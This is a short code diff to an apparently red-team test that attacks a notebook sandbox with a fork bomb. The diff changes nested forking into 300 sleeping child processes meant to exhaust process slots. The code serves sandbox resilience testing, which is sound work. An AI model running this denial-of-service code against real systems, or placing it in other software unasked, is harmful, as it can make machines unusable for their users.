@@ -1,4 +1,4 @@
-"""Forks until no process can be started; each child forks on (point 4)."""
+"""Forks until no process can be started (point 4)."""
 
 from redteam.tools import World, own_cell
 
@@ -13,14 +13,9 @@ def attack(notebook, world: World) -> None:
         import os
         import time
 
-        for _ in range(100):
+        for _ in range(300):
             try:
                 if os.fork() == 0:
-                    for _ in range(100):
-                        try:
-                            os.fork()
-                        except OSError:
-                            break
                     time.sleep(600)
                     os._exit(0)
             except OSError:
